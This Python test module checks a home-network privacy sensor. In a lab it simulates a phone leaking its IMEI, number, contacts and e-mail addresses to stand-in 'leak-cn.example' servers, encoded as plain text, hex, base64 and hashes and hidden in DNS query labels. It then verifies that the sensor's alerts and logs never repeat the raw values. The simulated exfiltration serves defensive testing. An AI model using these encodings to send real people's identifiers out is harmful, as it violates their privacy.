"""The owner's secrets, end to end in the lab.

The Redmi leaks a known IMEI, its number, its contact book and e-mail addresses to "China" in
clear (URL query, form, JSON), as hex, base64 and digests, and in DNS labels. The daemon runs
as a service user with auth on its metrics, a journal socket the test owns (native protocol)
and Alertmanager behind a recording proxy. Once the alerts have reached every sink, every
output is searched for the values in every form (tests/secrets.py): metrics, every file in the
state directory, the event log, each journal datagram, each raw Alertmanager POST body and
Alertmanager's own view, the daemon's stdout/stderr, and `analyze` (JSON and summary) run on a
capture of the same leak. None may hold one; the alerts must still carry the identifier's kind,
a redacted tail and a keyed hash.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.client
import json
import os
import pwd
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from sensor import privileges
from sensor.lab import DEFAULT_ZONE, Lab
from sensor.lab.synth import DEMO_CONTACTS, DEMO_IMEI, DEMO_PHONE, LEAK_BODY, REDMI_UA
from sensor.names import dns_name_text
from tests.lab.test_daemon import Daemon
from tests.secrets import find_secrets, forms_present
from tests.sinks.samples import AM_BINARY, parse_native

OWNER_EMAIL = "budi.santoso@example.co.id"
"""The phone owner's address (configured as the device's identifier, like IMEI and number)."""
CONTACT_EMAIL = "siti.rahmawati@example.org"
"""An address in the uploaded contact book (not configured: found by its structure)."""
SECRETS = (DEMO_IMEI, DEMO_PHONE, *DEMO_CONTACTS, OWNER_EMAIL, CONTACT_EMAIL)

SERVICE_USER = "phonehome-secrets"
METRICS_PORT = 14663
AM_PORT = 19093
PROXY_PORT = 19094
SCRAPE_USER = "prometheus"
SCRAPE_PASSWORD = "correct horse battery staple"
SCRAPE_TOKEN = "t0ken-for-the-lab-scraper"
CN = "203.0.113.10"
KINDS = ("imei", "phone", "contacts")
LEAK_HOSTS = ("sync", "hex", "b64", "hash")
"""<name>.leak-cn.example: a server name per leak, so each gets alerts of its own."""


# --- what the phone sends ---------------------------------------------------------------------


def _request(
    method: str,
    host: str,
    target: str,
    headers: tuple[tuple[str, str], ...] = (),
    body: bytes = b"",
) -> bytes:
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"User-Agent: {REDMI_UA}"]
    lines += [f"{k}: {v}" for k, v in headers]
    lines += [f"Content-Length: {len(body)}", "Connection: close"]
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def leaks() -> list[tuple[str, bytes]]:
    """(host, raw HTTP request) in the order the phone sends them, each on its own connection
    to the CN server, whose address it looks up first. Each goes to a server name of its own:
    the alert stage suppresses repeats per destination, so every encoding gets an alert of its
    own to every sink."""
    imei, phone = DEMO_IMEI.encode(), DEMO_PHONE.encode()
    form = LEAK_BODY + "&email=" + urllib.parse.quote(OWNER_EMAIL, safe="")
    contacts = [{"name": f"Kontak {i}", "tel": c} for i, c in enumerate(DEMO_CONTACTS)]
    doc = {
        "device": {"imei": DEMO_IMEI, "msisdn": DEMO_PHONE, "email": OWNER_EMAIL},
        "contacts": [*contacts, {"name": "Siti", "email": CONTACT_EMAIL}],
    }
    blob = json.dumps({"did": DEMO_IMEI, "tel": DEMO_PHONE, "mail": OWNER_EMAIL}).encode()
    form_ct = ("Content-Type", "application/x-www-form-urlencoded")
    return [
        (
            "api.account.xiaomi.com",
            _request(
                "POST",
                "api.account.xiaomi.com",
                f"/pass/v2/register?imei={DEMO_IMEI}&tel=%2B{DEMO_PHONE[1:]}",
                (form_ct,),
                form.encode(),
            ),
        ),
        (
            "sync.leak-cn.example",
            _request(
                "POST",
                "sync.leak-cn.example",
                "/v1/contacts/sync",
                (("Content-Type", "application/json"),),
                json.dumps(doc).encode(),
            ),
        ),
        (
            "hex.leak-cn.example",
            _request(
                "GET",
                "hex.leak-cn.example",
                f"/c?d={imei.hex()}&m={phone.hex()}&e={OWNER_EMAIL.encode().hex().upper()}",
            ),
        ),
        (
            "b64.leak-cn.example",
            _request(
                "POST",
                "b64.leak-cn.example",
                "/b?u=" + base64.urlsafe_b64encode(phone).decode().rstrip("="),
                (("X-Payload", _b64(blob)), form_ct),
                ("c=" + urllib.parse.quote(_b64(",".join(DEMO_CONTACTS).encode()))).encode(),
            ),
        ),
        (
            "hash.leak-cn.example",
            _request(
                "GET",
                "hash.leak-cn.example",
                f"/s?d={hashlib.md5(imei).hexdigest()}&s1={hashlib.sha1(phone).hexdigest()}"
                f"&s2={hashlib.sha256(imei).hexdigest()}"
                f"&h={hashlib.sha256(OWNER_EMAIL.encode()).hexdigest()}",
                (("X-Sig", _b64(hashlib.sha1(imei).digest())),),
            ),
        ),
    ]


def dns_leaks() -> list[str]:
    """Query names carrying identifiers in a label (hex, base32), sent to the lab resolver."""
    b32 = base64.b32encode(DEMO_PHONE.encode()).decode().rstrip("=").lower()
    return [f"{DEMO_IMEI.encode().hex()}.t.leak-cn.example", f"{b32}.p.leak-cn.example"]


def phone_client(spec_json: str) -> None:
    """Runs in the phone's namespace: the HTTP requests, then the DNS queries."""
    from sensor.lab import servers as labsrv

    spec = json.loads(spec_json)
    out: dict[str, Any] = {"http": [], "dns": []}
    for host, raw in spec["http"]:
        # Looked up first, as an app does: the sensor names the flow from the DNS answer.
        with socket.create_connection((host, 80), timeout=10) as s:
            s.sendall(base64.b64decode(raw))
            reply = b""
            while chunk := s.recv(65536):
                reply += chunk
        out["http"].append(int(reply.split(b" ", 2)[1]))
    for name in spec["dns"]:
        out["dns"].append(labsrv.dns_query(name, "A", spec["resolver"])["rcode"])
    sys.stdout.write(json.dumps(out))


# --- helpers that run in the gateway namespace --------------------------------------------------


def recording_proxy(port: str, upstream: str, record_dir: str) -> None:
    """Alertmanager's stand-in on loopback: stores every request (raw body, path, headers) in
    `record_dir`, forwards it to the real Alertmanager and relays the answer. Prints "ready"
    once Alertmanager answers /-/ready."""
    import http.server
    import urllib.error
    import urllib.request

    seq = iter(range(1_000_000))
    lock = threading.Lock()

    class Handler(http.server.BaseHTTPRequestHandler):
        def _relay(self) -> None:
            size = int(self.headers.get("Content-Length", "0"))
            body = self.rfile.read(size) if size else b""
            with lock:
                n = next(seq)
            if self.command == "POST":
                meta = {"path": self.path, "headers": dict(self.headers.items())}
                d = Path(record_dir)
                (d / f".{n:04d}.tmp").write_bytes(body)
                (d / f"{n:04d}.json").write_text(json.dumps(meta))
                os.replace(d / f".{n:04d}.tmp", d / f"{n:04d}.body")
            req = urllib.request.Request(
                upstream + self.path,
                data=body if self.command == "POST" else None,
                method=self.command,
                headers={"Content-Type": self.headers.get("Content-Type", "application/json")},
            )
            try:
                with urllib.request.urlopen(req, timeout=10) as r:
                    status, answer = r.status, r.read()
            except urllib.error.HTTPError as exc:
                status, answer = exc.code, exc.read()
            self.send_response(status)
            self.send_header("Content-Length", str(len(answer)))
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(answer)

        do_GET = do_POST = _relay

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", int(port)), Handler)
    deadline = time.monotonic() + 30
    while True:
        try:
            with urllib.request.urlopen(upstream + "/-/ready", timeout=2) as r:
                if r.status == 200:
                    break
        except OSError:
            pass
        if time.monotonic() > deadline:
            raise SystemExit("alertmanager not ready")
        time.sleep(0.1)
    print("ready", flush=True)
    server.serve_forever()


def http_client(spec_json: str) -> None:
    """GETs (url, headers) pairs; prints [{status, body, headers}] (bodies as latin-1 text)."""
    spec = json.loads(spec_json)
    out = []
    for url, headers in spec:
        u = urllib.parse.urlsplit(url)
        conn = http.client.HTTPConnection(u.hostname or "", u.port, timeout=10)
        conn.request("GET", u.path or "/", headers=headers)
        resp = conn.getresponse()
        out.append(
            {
                "status": resp.status,
                "body": resp.read().decode("latin-1"),
                "headers": dict(resp.getheaders()),
            }
        )
        conn.close()
    sys.stdout.write(json.dumps(out))


def _child(lab: Lab, func: str, *args: str) -> list[str]:
    code = f"import sys; from tests.lab.test_secrets import {func}; {func}(*sys.argv[1:])"
    return [lab.python, "-c", code, *args]


# --- the journal stand-in -----------------------------------------------------------------------


class JournalRecorder:
    """A datagram socket at a path the service user may write to; keeps every datagram."""

    def __init__(self, directory: Path) -> None:
        directory.mkdir(mode=0o755)
        self.path = directory / "socket"
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.sock.bind(str(self.path))
        self.path.chmod(0o666)  # like journald's own socket
        self.sock.settimeout(0.2)
        self.datagrams: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="journal-recorder", daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            with contextlib.suppress(TimeoutError):
                self.datagrams.append(self.sock.recv(1 << 20))

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


# --- the run ------------------------------------------------------------------------------------


@dataclass
class Run:
    """Everything the daemon and `analyze` produced, gathered once for the module."""

    base: Path
    state: Path
    uid: int
    gid: int
    before: set[Path]
    """State-directory entries that existed before the daemon started (test fixture data)."""
    status: dict[str, dict[str, str]] = field(default_factory=dict)
    """/proc/<pid>/task/<tid>/status of every daemon thread, read after READY, by tid."""
    events: list[dict[str, Any]] = field(default_factory=list)
    journal: list[bytes] = field(default_factory=list)
    am_posts: list[bytes] = field(default_factory=list)
    am_meta: list[dict[str, Any]] = field(default_factory=list)
    am_api: bytes = b""
    scrapes: dict[str, dict[str, Any]] = field(default_factory=dict)
    daemon_output: str = ""
    daemon_rc: int | None = None
    phone: dict[str, Any] = field(default_factory=dict)
    capture: bytes = b""
    analyze_json: str = ""
    analyze_summary: str = ""
    analyze_err: str = ""
    analyze_state: Path | None = None
    seconds: dict[str, float] = field(default_factory=dict)

    def am_alerts(self) -> list[dict[str, Any]]:
        return [a for body in self.am_posts for a in json.loads(body)]

    def outputs(self, *, dns_queries: bool = True) -> dict[str, bytes]:
        """Every output to search, by a name that says where it came from. Without
        `dns_queries`, flow records (flows.json, `analyze --json`) lose that field, which
        `dns_query_lists` returns on its own."""
        out: dict[str, bytes] = {}
        for tree in (self.state, self.analyze_state):
            assert tree is not None
            for p in sorted(tree.rglob("*")):
                if p.is_file():
                    out[f"file {p}"] = p.read_bytes()
        for i, d in enumerate(self.journal):
            out[f"journal datagram {i}"] = d
            # Decoded too: a field sent length-prefixed is still one value.
            out[f"journal fields {i}"] = json.dumps(parse_native(d), ensure_ascii=False).encode()
        for i, (body, meta) in enumerate(zip(self.am_posts, self.am_meta, strict=True)):
            out[f"alertmanager POST {i} body"] = body
            out[f"alertmanager POST {i} path+headers"] = json.dumps(meta).encode()
        out["alertmanager /api/v2/alerts"] = self.am_api
        for name, s in self.scrapes.items():
            out[f"metrics scrape ({name})"] = s["body"].encode("latin-1")
        out["daemon stdout+stderr"] = self.daemon_output.encode()
        out["analyze --json"] = self.analyze_json.encode()
        out["analyze (summary)"] = self.analyze_summary.encode()
        out["analyze stderr"] = self.analyze_err.encode()
        if not dns_queries:
            for key in self._flow_record_outputs(out):
                out[key] = _strip_dns_queries(out[key])[0]
        return out

    def dns_query_lists(self) -> dict[str, bytes]:
        """The `dns_queries` of every flow record, by output."""
        out = self.outputs()
        return {
            f"{k} dns_queries": json.dumps(_strip_dns_queries(out[k])[1]).encode()
            for k in self._flow_record_outputs(out)
        }

    @staticmethod
    def _flow_record_outputs(out: dict[str, bytes]) -> list[str]:
        return [k for k in out if k.endswith("/flows.json") or k == "analyze --json"]


def _strip_dns_queries(data: bytes) -> tuple[bytes, list[str]]:
    """JSON (or JSON Lines) without any `dns_queries` field, and the names those held."""
    names: list[str] = []

    def walk(x: Any) -> Any:
        if isinstance(x, dict):
            names.extend(x.pop("dns_queries", None) or [])
            return {k: walk(v) for k, v in x.items()}
        if isinstance(x, list):
            return [walk(v) for v in x]
        return x

    try:
        docs = [json.loads(data)]
    except json.JSONDecodeError:
        docs = [json.loads(line) for line in data.splitlines() if line.strip()]
    text = "\n".join(json.dumps(walk(d), ensure_ascii=False) for d in docs)
    return text.encode(), names


def _scrape_cases() -> dict[str, dict[str, str]]:
    def basic(user: str, pw: str) -> dict[str, str]:
        return {"Authorization": "Basic " + _b64(f"{user}:{pw}".encode())}

    return {
        "no credentials": {},
        "wrong password": basic(SCRAPE_USER, "wrong horse"),
        "wrong user": basic("root", SCRAPE_PASSWORD),
        "wrong token": {"Authorization": "Bearer not-the-token"},
        "malformed": {"Authorization": "Basic %%%"},
        "basic auth": basic(SCRAPE_USER, SCRAPE_PASSWORD),
        "bearer token": {"Authorization": f"Bearer {SCRAPE_TOKEN}"},
    }


def _config_extra(journal: Path, token_file: Path) -> str:
    known = (
        f'identifiers = {{ imei = ["{DEMO_IMEI}"], phone = {json.dumps([DEMO_PHONE])}, '
        f'email = ["{OWNER_EMAIL}"] }}\n'
    )
    pw_sha = hashlib.sha256(SCRAPE_PASSWORD.encode()).hexdigest()
    return (
        known
        # The contact numbers are the owner's secrets too (everyone's identifiers list).
        + f"[identifiers]\nphone = {json.dumps(list(DEMO_CONTACTS))}\n"
        + f'[journal]\nsocket_path = "{journal}"\n'
        + f'[alertmanager]\nurl = "http://127.0.0.1:{PROXY_PORT}"\nbackoff = 0.2\n'
        + f'[metrics]\nport = {METRICS_PORT}\nbasic_auth_user = "{SCRAPE_USER}"\n'
        + f'basic_auth_password_sha256 = "{pw_sha}"\nbearer_token_file = "{token_file}"\n'
    )


def _collect(run_: Run, journal: JournalRecorder, record_dir: Path, events: Path) -> str:
    """Reads what every sink holds so far; returns what is still missing ("" when nothing):
    identifier_abroad for every kind in KINDS in the event log, the journal and
    Alertmanager's POST bodies, and an alert for every leak's server name."""
    with contextlib.suppress(FileNotFoundError):
        run_.events = [json.loads(x) for x in events.read_text().splitlines() if x.strip()]
    run_.journal = list(journal.datagrams)
    bodies = sorted(record_dir.glob("*.body"))
    run_.am_posts = [p.read_bytes() for p in bodies]
    run_.am_meta = [json.loads(p.with_suffix(".json").read_text()) for p in bodies]
    want = set(KINDS)
    seen = {
        "event log": {e["identifier"] for e in run_.events if e.get("rule") == "identifier_abroad"},
        "journal": {
            f.get("PHONEHOME_IDENTIFIER")
            for f in (parse_native(d) for d in run_.journal)
            if f.get("PHONEHOME_RULE") == "identifier_abroad"
        },
        "alertmanager": {
            a["labels"].get("identifier")
            for a in run_.am_alerts()
            if a["labels"].get("rule") == "identifier_abroad"
        },
    }
    missing = [f"{sink}: {sorted(want - got)}" for sink, got in seen.items() if not want <= got]
    hosts = {e.get("server_name") for e in run_.events if e.get("type") == "alert"}
    want_hosts = {"api.account.xiaomi.com"} | {f"{w}.leak-cn.example" for w in LEAK_HOSTS}
    if not want_hosts <= hosts:
        missing.append(f"alerts for {sorted(want_hosts - hosts)} (have {sorted(map(str, hosts))})")
    return "; ".join(missing)


@pytest.fixture(scope="module")
def run(lab_usable: None) -> Iterator[Run]:
    if not os.access(AM_BINARY, os.X_OK):
        pytest.skip(f"{AM_BINARY} not installed (Debian package prometheus-alertmanager)")
    if shutil.which("dumpcap") is None:
        pytest.skip("dumpcap not installed (Debian package tshark)")
    t0 = time.monotonic()
    created_user = not privileges.user_exists(SERVICE_USER)
    if created_user:
        subprocess.run(
            [
                "useradd",
                "--system",
                "--no-create-home",
                "--shell",
                "/usr/sbin/nologin",
                SERVICE_USER,
            ],
            check=True,
        )
    pw = pwd.getpwnam(SERVICE_USER)
    # Under /var/tmp and world-traversable: the service user must reach its state directory
    # and the journal socket (pytest's tmp dirs are root's, mode 0700).
    base = Path(tempfile.mkdtemp(prefix="phonehome-secrets-", dir="/var/tmp"))
    base.chmod(0o755)
    stack = contextlib.ExitStack()
    try:
        zone = DEFAULT_ZONE | {f"{h}.leak-cn.example": [("A", CN)] for h in LEAK_HOSTS}
        lab = stack.enter_context(Lab.create(quic=False, zone=zone))
        result = _run(lab, base, pw.pw_uid, pw.pw_gid, stack, t0)
        yield result
    finally:
        stack.close()
        shutil.rmtree(base, ignore_errors=True)
        if created_user:
            subprocess.run(["userdel", SERVICE_USER], check=False, capture_output=True)


def _run(lab: Lab, base: Path, uid: int, gid: int, stack: contextlib.ExitStack, t0: float) -> Run:
    journal = JournalRecorder(base / "journal")
    stack.callback(journal.close)
    token_file = base / "scrape.token"
    token_file.touch(mode=0o600)
    token_file.write_text(SCRAPE_TOKEN + "\n")
    record_dir = base / "alertmanager-posts"
    record_dir.mkdir()
    am_conf = base / "alertmanager.yml"
    am_conf.write_text('route:\n  receiver: "null"\nreceivers:\n  - name: "null"\n')
    am_log = stack.enter_context((base / "alertmanager.log").open("wb"))
    lab.gw_popen(
        [
            AM_BINARY,
            f"--config.file={am_conf}",
            f"--storage.path={base / 'am-data'}",
            f"--web.listen-address=127.0.0.1:{AM_PORT}",
            "--cluster.listen-address=",
        ],
        stdout=am_log,
        stderr=subprocess.STDOUT,
    )
    proxy = lab.gw_popen(
        _child(
            lab, "recording_proxy", str(PROXY_PORT), f"http://127.0.0.1:{AM_PORT}", str(record_dir)
        ),
        env=lab.env,
        stdout=subprocess.PIPE,
        stderr=am_log,
        text=True,
    )
    capture_path = base / "leak.pcapng"
    dumpcap = lab.gw_popen(
        ["dumpcap", "-q", "-i", lab.lan_bridge, "-w", str(capture_path)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    before: set[Path] = set()

    def edit(config: str) -> str:
        # Called once the fixture data is in the state directory, before the daemon starts.
        before.update((base / "state").rglob("*"))
        return config.replace('user = ""', f'user = "{SERVICE_USER}"').replace(
            "allow_root = true", "allow_root = false"
        )

    d = Daemon(lab, base, extra=_config_extra(journal.path, token_file), edit=edit)
    run_ = Run(base, d.state, uid, gid, before)
    try:
        assert proxy.stdout is not None and proxy.stdout.readline().strip() == "ready"
        assert dumpcap.stderr is not None and "Capturing on" in dumpcap.stderr.readline()
        d.wait_notify("READY=1", timeout=20)
        run_.seconds["ready"] = time.monotonic() - t0
        for task in Path(f"/proc/{d.proc.pid}/task").iterdir():
            lines = (task / "status").read_text().splitlines()
            run_.status[task.name] = dict(x.split(":\t", 1) for x in lines if ":\t" in x)

        spec = {
            "resolver": lab.resolver.ipv4,
            "http": [(host, _b64(raw)) for host, raw in leaks()],
            "dns": dns_leaks(),
        }
        sent = lab.exec(
            "xiaomi", _child(lab, "phone_client", json.dumps(spec)), env=lab.env, timeout=60
        )
        assert sent.returncode == 0, sent.stderr
        run_.phone = json.loads(sent.stdout)
        deadline = time.monotonic() + 15
        while missing := _collect(run_, journal, record_dir, d.state / "events.jsonl"):
            assert d.proc.poll() is None, d.output()
            assert time.monotonic() < deadline, (
                f"not delivered: {missing}\nphone: {sent.stdout}\nevents:\n"
                + "\n".join(json.dumps(e) for e in run_.events)
                + f"\ndaemon:\n{d.output()}"
            )
            d.pump(0.2)
        run_.seconds["delivered"] = time.monotonic() - t0
        d.pump(1.0)  # later alerts (DNS, resolved) have a moment to arrive too

        cases = _scrape_cases()
        url = f"http://127.0.0.1:{METRICS_PORT}/metrics"
        got = lab.gw_exec(
            _child(lab, "http_client", json.dumps([[url, h] for h in cases.values()])),
            env=lab.env,
            timeout=30,
        )
        assert got.returncode == 0, got.stderr
        run_.scrapes = dict(zip(cases, json.loads(got.stdout), strict=True))
    finally:
        run_.daemon_rc = d.stop()
        run_.daemon_output = d.output()
        dumpcap.send_signal(signal.SIGINT)
        dumpcap.wait(10)
    # After the daemon's last flush: everything it posted on the way out is recorded too.
    _collect(run_, journal, record_dir, d.state / "events.jsonl")
    am = lab.gw_exec(
        _child(lab, "http_client", json.dumps([[f"http://127.0.0.1:{AM_PORT}/api/v2/alerts", {}]])),
        env=lab.env,
        timeout=30,
    )
    assert am.returncode == 0, am.stderr
    (api,) = json.loads(am.stdout)
    assert api["status"] == 200, api
    run_.am_api = api["body"].encode("latin-1")
    run_.capture = capture_path.read_bytes()
    run_.seconds["stopped"] = time.monotonic() - t0
    _analyze(run_, capture_path, d.state / "lab-geo.toml", lab.devices["xiaomi"].mac)
    run_.seconds["analyzed"] = time.monotonic() - t0
    return run_


def _analyze(run_: Run, capture: Path, geo: Path, mac: str) -> None:
    state = run_.base / "analyze-state"
    state.mkdir()
    cfg = run_.base / "analyze.toml"
    cfg.write_text(
        f'[site]\nhome_country = "ID"\nlan_networks = ["192.168.77.0/24", "fd00:77::/64"]\n'
        f'[paths]\nstate_dir = "{state}"\n[geo]\noverrides = "{geo}"\n'
        f'[identifiers]\nimei = ["{DEMO_IMEI}"]\nemail = ["{OWNER_EMAIL}"]\n'
        f"phone = {json.dumps([DEMO_PHONE, *DEMO_CONTACTS])}\n"
        f'[[devices]]\nmac = "{mac}"\nname = "Redmi phone"\nkind = "phone"\n'
    )
    argv = [
        sys.executable,
        "-m",
        "sensor",
        "analyze",
        str(capture),
        "--config",
        str(cfg),
        "--record",
    ]
    as_json = subprocess.run([*argv, "--json"], capture_output=True, text=True, timeout=60)
    summary = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    assert as_json.returncode == 0 and summary.returncode == 0, as_json.stderr + summary.stderr
    run_.analyze_json, run_.analyze_summary = as_json.stdout, summary.stdout
    run_.analyze_err = as_json.stderr + summary.stderr
    run_.analyze_state = state


# --- the tests ----------------------------------------------------------------------------------


def test_the_phone_leaked_in_every_form(run: Run) -> None:
    """The search below is only worth something if the secrets were on the wire: the capture
    holds them in clear, URL-encoded, hex, base64 and as MD5/SHA-1/SHA-256, and the same
    search finds them there."""
    assert run.phone["http"] == [200] * len(leaks())
    assert run.phone["dns"] == [3, 3]  # NXDOMAIN, but asked
    present = {p.split("@")[0].removesuffix("_nopad") for p in forms_present(run.capture, SECRETS)}
    assert {"plain", "url", "hex", "hex_upper", "base64", "base64url"} <= present, present
    assert {"md5", "sha1", "sha256", "sha1_base64", "base32_lower"} <= present, present


def test_alerts_reached_every_sink_with_kind_redacted_value_and_keyed_hash(run: Run) -> None:
    alerts = [e for e in run.events if e.get("type") == "alert"]
    abroad = [a for a in alerts if a["rule"] == "identifier_abroad"]
    assert {a["identifier"] for a in abroad} >= {*KINDS, "email"}
    assert {a["encoding"] for a in abroad} >= {"plain", "hex", "base64", "md5"}, abroad
    by_kind = {a["identifier"]: a for a in abroad}
    assert by_kind["imei"]["value"] == "…" + DEMO_IMEI[-4:]
    assert by_kind["phone"]["value"] in {"…" + p[-4:] for p in (DEMO_PHONE, *DEMO_CONTACTS)}
    assert by_kind["contacts"]["value"].endswith(" numbers")
    assert by_kind["email"]["value"].startswith("…@")
    for a in abroad:
        assert a["device_mac"] == "64:09:80:77:00:23" and a["country"] == "CN"
        assert len(a["keyed_hash"]) == 16 and int(a["keyed_hash"], 16) >= 0
    # The same keyed hash stands for the IMEI in every encoding.
    assert len({a["keyed_hash"] for a in abroad if a["identifier"] == "imei"}) == 1
    # The DNS labels were caught too (the lab resolver is at home: identifier_cleartext).
    assert any(a["location"] == "dns" for a in alerts), alerts

    journal = [parse_native(d) for d in run.journal]
    jabroad = [f for f in journal if f.get("PHONEHOME_RULE") == "identifier_abroad"]
    assert {f["PHONEHOME_IDENTIFIER"] for f in jabroad} >= set(KINDS)
    assert all(f["PRIORITY"] == "2" and len(f["PHONEHOME_KEYED_HASH"]) == 16 for f in jabroad)
    assert all(
        f["PHONEHOME_VALUE"].startswith("…") or "numbers" in f["PHONEHOME_VALUE"] for f in jabroad
    )
    assert len(journal) >= len(alerts)

    posted = [a for a in run.am_alerts() if a["labels"]["rule"] == "identifier_abroad"]
    assert {a["labels"]["identifier"] for a in posted} >= set(KINDS)
    for a in posted:
        assert a["labels"]["alertname"] == "PhonehomeIdentifierAbroad"
        assert len(a["annotations"]["keyed_hash"]) == 16
        assert a["annotations"]["value"].startswith("…") or "numbers" in a["annotations"]["value"]
    assert all(m["path"] == "/api/v2/alerts" for m in run.am_meta)
    api = json.loads(run.am_api)
    assert {a["labels"].get("identifier") for a in api} >= set(KINDS)

    ok = run.scrapes["basic auth"]["body"]
    assert "phonehome_alerts_total{" in ok and 'rule="identifier_abroad"' in ok
    assert "phonehome_identifier_exposures_total{" in ok

    report = [json.loads(x) for x in run.analyze_json.splitlines()]
    offline = [r for r in report if r["type"] == "alert" and r["rule"] == "identifier_abroad"]
    assert {r["identifier"] for r in offline} >= set(KINDS)
    assert "identifier_abroad" in run.analyze_summary


def test_no_output_holds_an_identifier(run: Run) -> None:
    outputs = run.outputs(dns_queries=False)
    # What was searched, so the test cannot pass by finding nothing to search.
    files = [k for k in outputs if k.startswith("file ")]
    assert any(k.endswith("/events.jsonl") for k in files)
    assert any(k.endswith("/flows.json") for k in files)
    assert any(k.endswith("/learned.json") for k in files)
    assert sum(k.startswith("journal datagram") for k in outputs) >= 4
    assert sum(k.endswith(" body") for k in outputs) >= 1
    found = find_secrets(outputs, SECRETS)
    assert not found, "identifiers in the outputs:\n" + "\n".join(found[:50])


def test_dns_alerts_name_the_domain_not_the_labels(run: Run) -> None:
    """The query names carried the IMEI (hex) and the number (base32) in a label: the alerts
    name only the domain they went to."""
    dns = [e for e in run.events if e.get("type") == "alert" and e["location"] == "dns"]
    assert {e["identifier"] for e in dns} == {"imei", "phone"}, dns
    assert {e["server_name"] for e in dns} == {"….leak-cn.example"}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("383631323334353637383930313237.t.leak-cn.example", "….leak-cn.example"),
        ("fm3deobrgiztinjwg44dsma.p.example.co.id", "….example.co.id"),
        ("861234567890127.example.com", "….example.com"),
        ("a.861234567890127.com.", "….com"),
        ("fm3deobrgiztinjwg44dsma.duckdns.org", "….duckdns.org"),
        ("6281234567890", "…"),
        ("example.com", "example.com"),
    ],
)
def test_dns_name_text(name: str, text: str) -> None:
    """No root needed: the cut the alerts make, on names where the data sits anywhere."""
    assert dns_name_text(name) == text
    assert not find_secrets({name: text}, SECRETS)


def test_flow_records_keep_no_query_name_with_an_identifier(run: Run) -> None:
    lists = run.dns_query_lists()
    assert any(b"leak-cn.example" in v for v in lists.values()), lists  # the queries are there
    found = find_secrets(lists, SECRETS)
    assert not found, "\n".join(found)


def test_metrics_refuse_requests_without_the_right_credentials(run: Run) -> None:
    for name, s in run.scrapes.items():
        if name in ("basic auth", "bearer token"):
            assert s["status"] == 200, (name, s["status"])
            assert "phonehome_build_info" in s["body"]
        else:
            assert s["status"] == 401, (name, s["status"])
            assert "phonehome" not in s["body"].replace('realm="phonehome"', "")
            assert "_total" not in s["body"] and "# HELP" not in s["body"]
            assert s["headers"].get("WWW-Authenticate", "").startswith("Basic")


GEO_CACHE = "cache"
"""<state_dir>/cache/: the embedded geo data's load cache (public data), checked on its own."""


def _state_problems(run: Run, *, geo_cache: bool) -> list[str]:
    """Entries of the state directory that are not the service user's, and entries the daemon
    made that are not private (files 0600, directories 0700)."""
    entries = sorted(run.state.rglob("*"))
    cache = run.state / GEO_CACHE
    wrong = []
    for p in [run.state, *entries]:
        if (p == cache or cache in p.parents) != geo_cache:
            continue
        st = p.lstat()
        if (st.st_uid, st.st_gid) != (run.uid, run.gid):
            wrong.append(f"{p}: owner {st.st_uid}:{st.st_gid}")
        if p not in run.before and p != run.state:
            want = 0o700 if stat.S_ISDIR(st.st_mode) else 0o600
            if stat.S_IMODE(st.st_mode) != want:
                wrong.append(f"{p}: mode {stat.S_IMODE(st.st_mode):o}, want {want:o}")
    return wrong


def test_state_files_are_private_and_the_service_users(run: Run) -> None:
    assert run.daemon_rc == 0, run.daemon_output
    created = {p.name for p in run.state.rglob("*") if p not in run.before}
    assert {"events.jsonl", "flows.json", "identity.key", "learned.json"} <= created, created
    wrong = _state_problems(run, geo_cache=False)
    assert not wrong, "\n".join(wrong)


def test_geo_cache_is_private_too(run: Run) -> None:
    assert (run.state / GEO_CACHE).exists()
    wrong = _state_problems(run, geo_cache=True)
    assert not wrong, "\n".join(wrong)


def _caps(st: dict[str, str]) -> dict[str, int]:
    return {k: int(st[k], 16) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}


def test_daemon_holds_only_net_raw_and_net_admin(run: Run) -> None:
    """/proc/<pid>/status after READY: effective and permitted exactly CAP_NET_RAW and
    CAP_NET_ADMIN, nothing inheritable or ambient, the bounding set cut to the same two, every
    uid and gid the service user's, no supplementary groups. The other threads (started
    after the drop) hold the same two or none."""
    main = next(st for st in run.status.values() if st["Pid"] == st["Tgid"])
    caps = _caps(main)
    assert caps == {
        "CapInh": 0,
        "CapPrm": privileges.KEEP,
        "CapEff": privileges.KEEP,
        "CapBnd": privileges.KEEP,
        "CapAmb": 0,
    }, {k: hex(v) for k, v in caps.items()}
    assert len(run.status) >= 2  # the metrics and Alertmanager threads are looked at too
    for tid, st in run.status.items():
        where = f"thread {tid}"
        assert st["Uid"].split() == [str(run.uid)] * 4, (where, st["Uid"])
        assert st["Gid"].split() == [str(run.gid)] * 4, (where, st["Gid"])
        assert st["Groups"].strip() == "", (where, st["Groups"])
        held = _caps(st)
        assert held["CapEff"] in (0, privileges.KEEP), (where, held)
        assert held["CapPrm"] == held["CapEff"], (where, held)
        assert held["CapInh"] == held["CapAmb"] == 0, (where, held)


def test_every_thread_has_the_bounding_set_cut(run: Run) -> None:
    full = {tid: hex(_caps(st)["CapBnd"]) for tid, st in run.status.items()}
    assert set(full.values()) == {hex(privileges.KEEP)}, full

